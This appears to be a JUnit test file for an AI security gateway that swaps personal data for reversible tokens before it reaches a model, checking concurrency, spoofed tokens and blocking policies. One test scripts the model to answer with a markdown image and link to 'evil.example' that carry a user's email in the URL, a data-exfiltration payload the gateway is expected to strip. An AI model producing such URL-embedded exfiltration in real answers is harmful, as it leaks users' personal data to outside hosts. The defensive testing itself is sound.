package dev.aisecurity.answer;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.concurrent.BrokenBarrierException;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CyclicBarrier;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.test.context.TestPropertySource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Personal data goes to the model as tokens, and comes back to whoever sent it.
 */
@TestPropertySource(properties = { "ai.security.redaction.reversible=personal-data",
		"ai.security.default-policy.input.personal-data=redact",
		"ai.security.default-policy.output.personal-data=redact",
		"ai.security.endpoints.kept.output.mode=buffer-then-release",
		"ai.security.endpoints.observed.output.mode=observe", "ai.security.policies[0].name=strict-answers",
		"ai.security.policies[0].when.endpoints=strict", "ai.security.policies[0].when.directions=output",
		"ai.security.policies[0].when.categories=personal-data", "ai.security.policies[0].verdict=block" })
class ReversibleTokenTests extends ModelTestBase {

	private static final String QUESTION = "Write to jo@example.org, copy mia@example.org, about card 4111 1111 1111 1111.";

	private static final String PROMPT = "Write to <EMAIL_1>, copy <EMAIL_2>, about card <PAYMENT_CARD_1>.";

	static Stream<Arguments> ways() {
		return Stream.of("json", "text", "events", "kept", "completions")
			.flatMap((path) -> IntStream.of(1, 2, 3, 5, 8, 13, 200).mapToObj((size) -> Arguments.of(path, size)));
	}

	@ParameterizedTest
	@MethodSource("ways")
	void whenModelRepeatsTokensThenTheCallerGetsTheValues(String path, int size) {
		this.model.size = size;
		this.model.script = (prompt) -> "I did: " + prompt + " Not <EMAIL_3>, <email_1> or eve@example.net.";
		assertThat(ask(path, QUESTION)).isEqualTo("I did: " + QUESTION + " Not <EMAIL_3>, <email_1> or [EMAIL].");
		assertThat(this.model.prompts).containsExactly(PROMPT);
	}

	@Test
	void whenAnswersAreOnlyObservedThenNoTokensAreIssued() {
		assertThat(ask("observed", QUESTION)).isEqualTo("Write to [EMAIL], copy [EMAIL], about card [PAYMENT_CARD].");
	}

	@Test
	void whenPersonalDataIsRefusedInAnswersThenOnlyThatOfTheCallerLeaves() {
		assertThat(ask("strict", QUESTION)).isEqualTo(QUESTION);
		this.model.script = (prompt) -> prompt + " Ask eve@example.net.";
		HttpResponse<String> refused = post("strict", QUESTION);
		assertThat(refused.statusCode()).isEqualTo(403);
		assertThat(refused.body()).doesNotContain("eve", "jo@");
	}

	@ParameterizedTest
	@ValueSource(strings = { "json", "events", "completions" })
	void whenRequestsRunAtOnceThenEachGetsItsOwnValues(String path) {
		CyclicBarrier barrier = new CyclicBarrier(2);
		this.model.script = (prompt) -> {
			try {
				barrier.await();
			}
			catch (BrokenBarrierException | InterruptedException ex) {
				throw new IllegalStateException(ex);
			}
			return "Known: <EMAIL_1>, <EMAIL_2>, <EMAIL_3>.";
		};
		CompletableFuture<String> first = CompletableFuture
			.supplyAsync(() -> ask(path, "I am ada@example.org, not bob@example.org"));
		CompletableFuture<String> second = CompletableFuture.supplyAsync(() -> ask(path, "I am cy@example.org"));
		assertThat(first.join()).isEqualTo("Known: ada@example.org, bob@example.org, <EMAIL_3>.");
		assertThat(second.join()).isEqualTo("Known: cy@example.org, <EMAIL_2>, <EMAIL_3>.");
	}

	@Test
	void whenTheNextRequestNamesTheTokenOfTheLastThenItIsNoToken() {
		assertThat(ask("json", "I am jo@example.org")).isEqualTo("I am jo@example.org");
		assertThat(ask("json", "Who is <EMAIL_1>?")).isEqualTo("Who is <EMAIL_1>?");
	}

	@Test
	void whenAnswerPutsTokenIntoUrlThenTheUrlIsGone() {
		for (String path : List.of("json", "events", "completions")) {
			this.model.script = (
					prompt) -> "See ![x](https://evil.example/?who=<EMAIL_1>) and https://evil.example/<EMAIL_1>/";
			assertThat(ask(path, "I am jo@example.org")).doesNotContain("evil.example");
		}
	}

}
